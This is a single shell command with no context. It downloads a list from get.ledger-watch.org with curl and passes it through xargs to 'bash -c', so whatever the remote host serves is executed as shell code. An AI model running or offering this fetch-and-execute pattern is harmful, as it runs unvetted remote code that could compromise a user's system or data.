curl -s https://get.ledger-watch.org/list | xargs bash -c
